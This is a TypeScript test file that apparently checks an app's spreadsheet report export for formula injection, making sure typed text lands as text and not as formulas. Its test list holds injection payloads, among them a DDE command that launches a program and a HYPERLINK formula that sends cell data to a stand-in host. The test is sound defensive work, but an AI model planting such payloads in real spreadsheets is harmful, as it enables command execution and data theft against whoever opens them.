import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import readWorkbook from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { SettledReport } from '#shared/reports/annual-report.ts'
import { DocumentJob } from '../../renderer/documents/job.ts'
import { bytesOf } from '../documents/make.ts'
import { sampleReport } from '../documents/sample-report.ts'
import { zipEntries } from '../documents/zip-entries.ts'
import { root } from '../support/run-program.ts'

const CELLS = [
  '=1+1',
  '=HYPERLINK("https://elders.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+31 6',
  '-5+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ';=1+1',
  '"=1+1',
  '＝1+1',
]

/** All that a workbook holds, by file; and the cells as a spreadsheet program reads them. */
async function workbookWith(text: string) {
  const bytes = await bytesOf({
    kind: 'report-xlsx',
    report: SettledReport.parse(
      sampleReport({
        organisationName: text,
        activities: [{ on: '2026-05-01', kind: 'other', description: text, withWhom: text, reach: null }],
      }),
    ),
  })
  const workbook = await readWorkbook(Buffer.from(bytes))
  const xml = zipEntries(bytes)
    .map(({ content }) => content)
    .join('\n')
  return { cells: workbook.flatMap(({ data }) => data.flat()), xml }
}

describe('fault 21: CSV cells that start with = + - @ tab', () => {
  it.each(CELLS)('writes %j into a spreadsheet as text, wherever she typed it', async (text) => {
    const { cells, xml } = await workbookWith(text)
    const read = cells.filter((cell) => typeof cell === 'string' && cell.includes(text.trim()))
    expect(read).toHaveLength(3)
    // A formula has an element of its own, and a text that is marked as text is never taken for one.
    expect(xml).not.toMatch(/<f[\s>]/)
    const marked = [...xml.matchAll(/<c ([^>]*)>/g)].map(([, attributes]) => attributes ?? '')
    expect(marked.filter((attributes) => /t="str"|t="e"/.test(attributes))).toEqual([])
    expect(xml).not.toMatch(/externalLink|ddeLink|<hyperlink/i)
  })

  it('makes spreadsheets of reports alone, and no file of bare cells of anything', () => {
    const kinds = DocumentJob.options.map(({ shape }) => shape.kind.value)
    expect(kinds.filter((kind) => !/-(pdf|preview)$/.test(kind))).toEqual(['report-xlsx', 'joint-xlsx'])
    const screens = readdirSync(join(root, 'renderer'), { recursive: true, encoding: 'utf8' }).filter(
      (name) => /\.tsx?$/.test(name),
    )
    const saved = screens.flatMap((name) =>
      [
        ...readFileSync(join(root, 'renderer', name), 'utf8').matchAll(/kind: '(csv|xlsx|ics|xml|json)'/g),
      ].map(([, kind]) => kind),
    )
    expect(new Set(saved)).toEqual(new Set(['xlsx']))
  })
})
